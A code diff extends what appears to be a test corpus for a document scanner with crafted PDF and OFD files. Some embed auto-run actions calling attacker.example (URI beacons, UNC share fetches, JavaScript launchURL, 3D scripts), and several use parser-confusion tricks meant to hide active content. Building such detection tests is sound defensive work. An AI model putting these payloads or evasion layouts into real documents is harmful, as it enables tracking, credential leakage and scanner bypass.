@@ -37,11 +37,27 @@ import {
   wordVbaData,
 } from '../../fixtures/active-office.ts';
 import {
+  ofdAnnotationAction,
+  ofdEncodedAction,
+  ofdFontFile,
+  ofdMedia,
+  ofdPageAction,
+  ofdPartNamed,
+  ofdResources,
+  ofdRoot,
+  ofdSecondDocument,
+  UNC_SHARE,
+} from '../../fixtures/active-ofd.ts';
+import {
   bigImage,
   buildClassicPdf,
   buildPdf,
   escapeNames,
+  handwrittenPages,
+  handwrittenPdf,
   incrementalUpdate,
+  incrementalUpdateXrefStream,
+  lengthDefinedTwicePdf,
   type Packing,
   pageObjects,
   type PdfObj,
@@ -173,6 +189,275 @@ const pdfItems: CorpusItem[] = PDF_CLASSES.flatMap((c) =>
   })),
 );
 
+const URI_ACTION = '<< /S /URI /URI (http://attacker.example/track) >>';
+const obj = (num: number, body: string) => `${num} 0 obj\n${body}\nendobj\n`;
+/** A file specification on another host (`\\attacker.example\share\x.pdf`), as PDF text. */
+const UNC_FILE = '(\\\\\\\\attacker.example\\\\share\\\\x.pdf)';
+
+/**
+ * PDFs laid out so that a search for `N G obj` and `stream`, or a reading of one definition per
+ * object, sees other objects than a reader reads; and active content the reader reaches by way of
+ * references, 3D models or external data.
+ */
+const readerPdfs: CorpusItem[] = [
+  {
+    id: 'pdf-header-inside-string',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    // `(2 0 obj)` in the catalog: cut there, the catalog's /OpenAction went unread.
+    bytes: async () =>
+      handwrittenPdf([
+        obj(1, '<< /Type /Catalog /T (2 0 obj) /Pages 2 0 R /OpenAction 6 0 R >>'),
+        ...handwrittenPages().slice(1),
+        obj(6, URI_ACTION),
+      ]),
+    expect: 'PDF_ACTION',
+  },
+  {
+    id: 'pdf-header-inside-dictionary',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    bytes: async () =>
+      handwrittenPdf([
+        obj(1, '<< /Type /Catalog /Pages 2 0 R /X 9 0 obj /OpenAction 6 0 R >>'),
+        ...handwrittenPages().slice(1),
+        obj(6, URI_ACTION),
+      ]),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-stream-keyword-inside-string',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    // The scan took `stream` for data and skipped to `endstream`, over the opening script.
+    bytes: async () =>
+      handwrittenPdf([
+        obj(
+          1,
+          '<< /Type /Catalog /Pages 2 0 R /A (>>\nstream\n) /OpenAction << /S /JavaScript /JS (app.alert(1)) >> /B (endstream) >>',
+        ),
+        ...handwrittenPages().slice(1),
+      ]),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-stream-keyword-after-inner-dictionary',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    bytes: async () =>
+      handwrittenPdf([
+        obj(1, `<< /Type /Catalog /Pages 2 0 R /X << >>\nstream\n/OpenAction ${URI_ACTION} /B (endstream) >>`),
+        ...handwrittenPages().slice(1),
+      ]),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-object-defined-twice-first-acts',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    // The table names the first definition (a URI); the second, a GoTo, was the one the scan kept.
+    bytes: async () =>
+      handwrittenPdf([
+        ...handwrittenPages('/OpenAction 6 0 R'),
+        obj(6, URI_ACTION),
+        obj(6, '<< /S /GoTo /D [3 0 R /Fit] >>'),
+      ]),
+    expect: 'PDF_ACTION',
+  },
+  {
+    id: 'pdf-openaction-type-by-reference',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    bytes: async () =>
+      handwrittenPdf([
+        ...handwrittenPages('/OpenAction << /S 7 0 R /URI (http://attacker.example/track) >>'),
+        obj(7, '/URI'),
+      ]),
+    expect: 'PDF_ACTION',
+  },
+  {
+    id: 'pdf-openaction-through-reference-object',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    bytes: async () => handwrittenPdf([...handwrittenPages('/OpenAction 6 0 R'), obj(6, '7 0 R'), obj(7, URI_ACTION)]),
+    expect: 'PDF_ACTION',
+  },
+  {
+    id: 'pdf-objstm-count-by-reference',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    // /N 8 0 R: the catalog and its opening URI in the object stream went unread.
+    bytes: async () =>
+      buildPdf([...pageObjects('/OpenAction 6 0 R'), { num: 6, body: URI_ACTION }, { num: 7, body: '2' }], {
+        packed: [1, 6],
+        countRef: 7,
+      }),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-keyword-run-in-dictionary',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    // A word of 300,000 letters where a key belongs: read one letter at a time, it never ended.
+    bytes: async () => handwrittenPdf(handwrittenPages('a'.repeat(300_000))),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-nesting-deep',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    bytes: async () => handwrittenPdf(handwrittenPages(`/X ${'<< /A '.repeat(100_000)}1${' >>'.repeat(100_000)}`)),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-3d-oninstantiate-script',
+    category: 'PDF 3D',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf([
+        ...pageObjects('', '/Annots [6 0 R]'),
+        { num: 6, body: '<< /Type /Annot /Subtype /3D /Rect [72 400 500 700] /3DD 7 0 R >>' },
+        { num: 7, body: '/Type /3D /Subtype /U3D /OnInstantiate 8 0 R', stream: Buffer.from('U3D\0') },
+        { num: 8, body: '', stream: Buffer.from("app.launchURL('http://attacker.example/track')") },
+      ]),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-3d-activated-on-open',
+    category: 'PDF 3D',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf([
+        ...pageObjects('', '/Annots [6 0 R]'),
+        { num: 6, body: '<< /Type /Annot /Subtype /3D /Rect [72 400 500 700] /3DD 7 0 R /3DA << /A /PO >> >>' },
+        { num: 7, body: '/Type /3D /Subtype /PRC', stream: Buffer.from('PRC\0') },
+      ]),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-external-stream-data',
+    category: 'PDF external data',
+    declared: 'pdf',
+    // An image whose data is a file on another host: fetched when the page is drawn.
+    bytes: async () =>
+      buildPdf([
+        ...pageObjects('', '/Resources << /XObject << /Im1 6 0 R >> >>'),
+        {
+          num: 6,
+          body: `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /Type /Filespec /F ${UNC_FILE} >>`,
+          stream: Buffer.alloc(0),
+        },
+      ]),
+    expect: 'PDF_ACTION',
+  },
+  // Already refused, kept so they stay so.
+  {
+    id: 'pdf-hybrid-reference-script-in-objstm',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    bytes: async () => hybridReferencePdf(),
+    expect: 'PDF_SCRIPT',
+  },
+  {
+    id: 'pdf-update-xref-stream-adds-openaction',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    bytes: async () =>
+      incrementalUpdateXrefStream(buildClassicPdf(pageObjects()), [
+        pageObjects('/OpenAction 6 0 R')[0] as PdfObj,
+        { num: 6, body: URI_ACTION },
+      ]),
+    expect: 'PDF_ACTION',
+  },
+  {
+    id: 'pdf-length-defined-twice',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    bytes: async () => lengthDefinedTwicePdf(),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-length-short-endstream-early',
+    category: 'PDF read as a reader reads it',
+    declared: 'pdf',
+    // An indirect /Length past an early `endstream`: the object between is data to a reader.
+    bytes: async () =>
+      handwrittenPdf([
+        ...handwrittenPages('/OpenAction 6 0 R'),
+        '4 0 obj\n<< /Length 5 0 R >>\nstream\nAAAendstream\nendobj\n6 0 obj << /S /JavaScript /JS (x) >> endobj\nBBB\nendstream\nendobj\n',
+        obj(5, '60'),
+      ]),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-openaction-gotor-unc',
+    category: 'PDF active content (plain)',
+    declared: 'pdf',
+    bytes: async () => buildPdf(pageObjects(`/OpenAction << /S /GoToR /F ${UNC_FILE} /D [0 /Fit] >>`)),
+    expect: 'PDF_ACTION',
+  },
+  {
+    id: 'pdf-openaction-uri-file',
+    category: 'PDF active content (plain)',
+    declared: 'pdf',
+    bytes: async () => buildPdf(pageObjects('/OpenAction << /S /URI /URI (file://attacker.example/share/x) >>')),
+    expect: 'PDF_ACTION',
+  },
+  {
+    id: 'pdf-screen-rendition',
+    category: 'PDF active content (plain)',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf([
+        ...pageObjects('', '/Annots [6 0 R]'),
+        {
+          num: 6,
+          body: `<< /Type /Annot /Subtype /Screen /Rect [0 0 99 99] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F ${UNC_FILE} >> >> >> >> >>`,
+        },
+      ]),
+    expect: 'PDF_ACTION',
+  },
+];
+
+/** A classic table whose trailer's /XRefStm names a cross-reference stream for what the table lacks: the opening script, in an object stream. */
+function hybridReferencePdf(): Buffer {
+  const base = buildClassicPdf(pageObjects('/OpenAction 6 0 R'));
+  const tableAt = base.lastIndexOf('\nxref') + 1;
+  const head = base.subarray(0, tableAt);
+  const inner = Buffer.from('6 0 << /S /JavaScript /JS (app.alert(1)) >>', 'latin1');
+  const objStm = Buffer.concat([
+    Buffer.from(
+      `7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${deflateSync(inner).length} >>\nstream\n`,
+      'latin1',
+    ),
+    deflateSync(inner),
+    Buffer.from('\nendstream\nendobj\n', 'latin1'),
+  ]);
+  const objStmAt = head.length;
+  const xrefStmAt = objStmAt + objStm.length;
+  const rows = Buffer.alloc(3 * 7);
+  rows.writeUInt8(2, 0);
+  rows.writeUInt32BE(7, 1);
+  rows.writeUInt8(1, 7);
+  rows.writeUInt32BE(objStmAt, 8);
+  rows.writeUInt8(1, 14);
+  rows.writeUInt32BE(xrefStmAt, 15);
+  const xrefStm = Buffer.concat([
+    Buffer.from(
+      `8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Index [6 3] /Length ${rows.length} >>\nstream\n`,
+      'latin1',
+    ),
+    rows,
+    Buffer.from('\nendstream\nendobj\n', 'latin1'),
+  ]);
+  const tableStart = xrefStmAt + xrefStm.length;
+  const table = base
+    .toString('latin1', tableAt)
+    .replace(/trailer\n<< \/Size \d+ /, `trailer\n<< /Size 9 /XRefStm ${xrefStmAt} `)
+    .replace(/startxref\n\d+/, `startxref\n${tableStart}`);
+  return Buffer.concat([head, objStm, xrefStm, Buffer.from(table, 'latin1')]);
+}
+
 /** PDFs whose structure cannot be read whole. */
 const unreadablePdfs: CorpusItem[] = [
   {
@@ -259,6 +544,7 @@ const unreadablePdfs: CorpusItem[] = [
     bytes: async () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n', 'latin1'),
     expect: 'PDF_UNREADABLE',
   },
+  ...readerPdfs,
 ];
 
 // ── OOXML ────────────────────────────────────────────────────────────────────────────────
@@ -589,9 +875,158 @@ const ofdItems: CorpusItem[] = [
     bytes: () => ofdAction('CLICK', '<ofd:GotoA AttachID="20" NewWindow="true"/>'),
     expect: 'OFD_ACTION',
   },
+  {
+    id: 'ofd-uri-without-event',
+    category: 'OFD action',
+    declared: 'ofd',
+    // No Event: not a click, so nothing says it waits for one.
+    bytes: () => ofdPageAction('<ofd:URI URI="http://attacker.example/track"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-page-actions-open-unc',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdPageAction(`<ofd:URI URI="${UNC_SHARE}\\x"/>`, 'PO'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-annotation-sound',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAnnotationAction('CLICK', '<ofd:Sound ResourceID="9"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-outline-uri-on-open',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () =>
+      ofdWith(
+        '<ofd:Outlines><ofd:OutlineElem Title="目录"><ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="http://attacker.example/track"/></ofd:Action></ofd:Actions></ofd:OutlineElem></ofd:Outlines>',
+      ),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-second-document-opens-uri',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: ofdSecondDocument,
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-media-file-url',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdMedia('http://attacker.example/track.png'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-media-file-unc',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdMedia(`${UNC_SHARE}\\image.png`),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-font-file-url',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdFontFile('file://attacker.example/share/font.ttf'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-font-file-climbs-out',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdFontFile('../../../../../../Windows/Fonts/font.ttf'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-font-file-unc-in-cdata',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdFontFile(`<![CDATA[${UNC_SHARE}\\font.ttf]]>`),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-resource-base-unc',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () =>
+      ofdResources(
+        '<ofd:Fonts><ofd:Font ID="2" FontName="宋体"><ofd:FontFile>font.ttf</ofd:FontFile></ofd:Font></ofd:Fonts>',
+        UNC_SHARE,
+      ),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-doc-root-url',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdRoot(['<ofd:DocRoot>http://attacker.example/Document.xml</ofd:DocRoot>']),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-custom-tags-unc',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdWith(`<ofd:CustomTags>${UNC_SHARE}\\tags.xml</ofd:CustomTags>`),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-extensions-url',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdWith('<ofd:Extensions>http://attacker.example/ext.xml</ofd:Extensions>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-document-root-not-xml',
+    category: 'OFD part the checks do not read',
+    declared: 'ofd',
+    bytes: () => ofdPartNamed('Doc_0/Document.dat', 'Doc_0/Document.dat', true),
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-page-in-office-folder',
+    category: 'OFD part the checks do not read',
+    declared: 'ofd',
+    bytes: () => ofdPartNamed('word/Content.xml', '/word/Content.xml'),
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-utf16-action',
+    category: 'OFD encoding',
+    declared: 'ofd',
+    bytes: () => ofdEncodedAction('UTF-16LE'),
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-utf32-action',
+    category: 'OFD encoding',
+    declared: 'ofd',
+    bytes: () => ofdEncodedAction('UTF-32BE'),
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-utf7-action',
+    category: 'OFD encoding',
+    declared: 'ofd',
+    bytes: () => ofdEncodedAction('UTF-7'),
+    expect: 'OOXML_UNREADABLE',
+  },
 ];
 
 export const ACTIVE_CORPUS: readonly CorpusItem[] = [...pdfItems, ...unreadablePdfs, ...officeItems, ...ofdItems];
+
+/** The page objects with a link annotation whose /A is `action` (run when the reviewer clicks it). */
+const linkAnnotation = (action: string): PdfObj[] => [
+  ...pageObjects('', '/Annots [6 0 R]'),
+  { num: 6, body: `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A ${action} >>` },
+];
+/** The page tree again, rotated: what a benign update changes. */
+const ROTATED_PAGES: PdfObj = { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 /Rotate 0 >>' };
 
 /** Look-alikes that must stay VALID (`warning`: the one warning they must carry). */
 export const ACTIVE_GENUINE: readonly {
@@ -622,22 +1057,50 @@ export const ACTIVE_GENUINE: readonly {
   {
     id: 'pdf-link-annotation-uri',
     declared: 'pdf',
-    bytes: async () =>
-      buildClassicPdf([
-        ...pageObjects('', '/Annots [6 0 R]'),
-        {
-          num: 6,
-          body: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.miit.gov.cn/) >> >>',
-        },
-      ]),
+    bytes: async () => buildClassicPdf(linkAnnotation('<< /S /URI /URI (https://www.miit.gov.cn/) >>')),
   },
   {
     id: 'pdf-incremental-update-benign',
     declared: 'pdf',
+    bytes: async () => incrementalUpdate(buildClassicPdf(pageObjects()), [ROTATED_PAGES]),
+  },
+  {
+    id: 'pdf-link-annotation-gotor',
+    declared: 'pdf',
+    // Another file, opened only when the reviewer clicks the link.
+    bytes: async () => buildPdf(linkAnnotation('<< /S /GoToR /F (annex.pdf) /D [0 /Fit] >>')),
+  },
+  {
+    id: 'pdf-update-xref-stream-benign',
+    declared: 'pdf',
+    bytes: async () => incrementalUpdateXrefStream(buildClassicPdf(pageObjects()), [ROTATED_PAGES]),
+  },
+  {
+    id: 'pdf-icc-profile',
+    declared: 'pdf',
+    // An ICC profile's stream has /N (its components) but is no object stream: Chromium writes these.
     bytes: async () =>
-      incrementalUpdate(buildClassicPdf(pageObjects()), [
-        { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 /Rotate 0 >>' },
+      buildClassicPdf([
+        ...pageObjects('', '/Group << /S /Transparency /CS [/ICCBased 6 0 R] >>'),
+        { num: 6, body: '/N 3 /Alternate /DeviceRGB /Filter /FlateDecode', stream: deflateSync(randomBytes(3000)) },
       ]),
+  },
+  {
+    id: 'pdf-openaction-goto-updated',
+    declared: 'pdf',
+    // An opening GoTo that an update replaces with another GoTo: both definitions are places.
+    bytes: async () =>
+      incrementalUpdate(
+        buildClassicPdf([...pageObjects('/OpenAction 6 0 R'), { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] >>' }]),
+        [{ num: 6, body: '<< /S /GoTo /D [3 0 R /XYZ 0 842 0] >>' }],
+      ),
+  },
+  {
+    id: 'pdf-string-with-keywords',
+    declared: 'pdf',
+    // A title that quotes PDF syntax (`1 0 obj`, `endstream`) is a string to a reader and to the scan.
+    bytes: async () =>
+      handwrittenPdf(handwrittenPages('/PageLabels << /Nums [0 << /P (1 0 obj << >> endobj endstream) >>] >>')),
   },
   { id: 'docx-hyperlink', declared: 'docx', bytes: docxWithHyperlink, warning: 'EXTERNAL_LINK' },
   { id: 'docx-chart-data', declared: 'docx', bytes: docxWithChart },
@@ -662,5 +1125,21 @@ export const ACTIVE_GENUINE: readonly {
     id: 'ofd-goto',
     declared: 'ofd',
     bytes: () => ofdAction('CLICK', '<ofd:Goto><ofd:Dest Type="XYZ" PageID="1"/></ofd:Goto>'),
+  },
+  {
+    id: 'ofd-annotation-click-link',
+    declared: 'ofd',
+    bytes: () => ofdAnnotationAction('CLICK', '<ofd:URI URI="https://www.miit.gov.cn/"/>'),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'ofd-package-locations',
+    declared: 'ofd',
+    // Package paths: absolute from the package root, and climbing within it.
+    bytes: () =>
+      ofdResources(
+        '<ofd:MultiMedias><ofd:MultiMedia ID="9" Type="Image"><ofd:MediaFile>../Res/image_9.png</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias>',
+        '/Doc_0/Res',
+      ),
   },
 ];
